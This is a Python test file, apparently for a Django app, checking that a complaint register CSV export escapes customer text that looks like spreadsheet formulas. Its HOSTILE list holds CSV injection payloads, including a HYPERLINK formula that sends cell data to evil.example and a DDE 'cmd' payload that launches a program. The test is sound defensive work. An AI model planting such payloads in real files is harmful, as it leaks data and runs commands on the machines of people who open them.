"""The complaint register CSV is safe to open in a spreadsheet program: customers' words that
look like formulas come out as text (OWASP CSV injection)."""

import csv
import io

from django.utils import timezone

from tests.complaints.factories import ComplaintFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd",
    "-2+3",
]


def _rows(browser, day):
    r = browser.get(f"/complaints/register.csv?received_from={day}&received_to={day}")
    assert r.status_code == 200
    return list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))


def test_customers_words_that_look_like_formulas_come_out_as_text(browser_as, advisor, shop):
    complaints = [
        ComplaintFactory(shop=shop, user=advisor, customer_words=words) for words in HOSTILE
    ]
    day = timezone.localtime(complaints[0].received_at).date()
    words = {row[0]: row[-1] for row in _rows(browser_as(advisor), day)[1:]}
    for complaint, hostile in zip(complaints, HOSTILE, strict=True):
        assert words[complaint.number] == "'" + hostile


def test_plain_words_and_amounts_are_left_alone(browser_as, advisor, shop):
    complaint = ComplaintFactory(shop=shop, user=advisor, customer_words="Brakes squeal - again")
    day = timezone.localtime(complaint.received_at).date()
    row = _rows(browser_as(advisor), day)[1]
    assert row[-1] == "Brakes squeal - again" and row[-2] == "0"
